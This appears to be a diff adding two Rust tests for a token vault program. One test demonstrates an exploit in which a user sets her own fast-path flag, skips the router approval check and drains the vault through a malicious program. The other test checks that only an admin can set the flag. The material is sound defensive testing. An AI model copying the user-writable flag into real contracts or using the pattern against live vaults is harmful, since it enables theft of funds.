@@ -0,0 +1,53 @@
+#[tokio::test]
+async fn test_self_enabled_fast_path_exploit() {
+    println!("\n=== EXPLOIT: User Enables Unvalidated Fast Path ===\n");
+
+    let mallory = Keypair::new();
+    let vault = create_vault(100_000).await;
+    deposit(&vault, &mallory, 1).await.unwrap();
+    let drainer = deploy_drainer_program().await;
+
+    println!("1. Unapproved router on the normal path");
+    let result = route_withdrawal(&vault, &mallory, 1, &drainer).await;
+    assert!(result.is_err());
+    println!("   Error: UnapprovedRouter");
+
+    println!("\n2. Mallory sets use_fast_path = true on her own account");
+    // Vulnerable: any user can write the flag
+    update_settings(&mallory, true).await.unwrap();
+
+    println!("\n3. Same withdrawal again");
+    route_withdrawal(&vault, &mallory, 1, &drainer).await.unwrap();
+    assert_eq!(get_vault_balance(&vault).await, 0);
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ Drainer program emptied 100,001 tokens with the vault's signature");
+}
+
+#[tokio::test]
+async fn test_fast_path_admin_only() {
+    println!("\n=== SECURITY: Fast Path Set By Admin Only ===\n");
+
+    let admin = Keypair::new();
+    let mallory = Keypair::new();
+    let vault = create_vault_with_admin(&admin, 100_000).await;
+    deposit(&vault, &mallory, 1).await.unwrap();
+    let drainer = deploy_drainer_program().await;
+
+    println!("1. Mallory calls set_fast_path on her own account");
+    let result = set_fast_path(&mallory, &mallory.pubkey(), true).await;
+    assert!(result.is_err());
+    println!("   ✓ Error: ConstraintHasOne");
+
+    println!("\n2. Withdrawal through the drainer");
+    let result = route_withdrawal(&vault, &mallory, 1, &drainer).await;
+    assert!(result.is_err());
+    assert_eq!(get_vault_balance(&vault).await, 100_001);
+    println!("   ✓ Error: UnapprovedRouter");
+
+    println!("\n3. Admin grants the fast path to a vetted integrator");
+    let integrator = Keypair::new();
+    set_fast_path(&admin, &integrator.pubkey(), true).await.unwrap();
+    assert!(get_user_state(&integrator.pubkey()).await.use_fast_path);
+    println!("   ✓ use_fast_path = true");
+}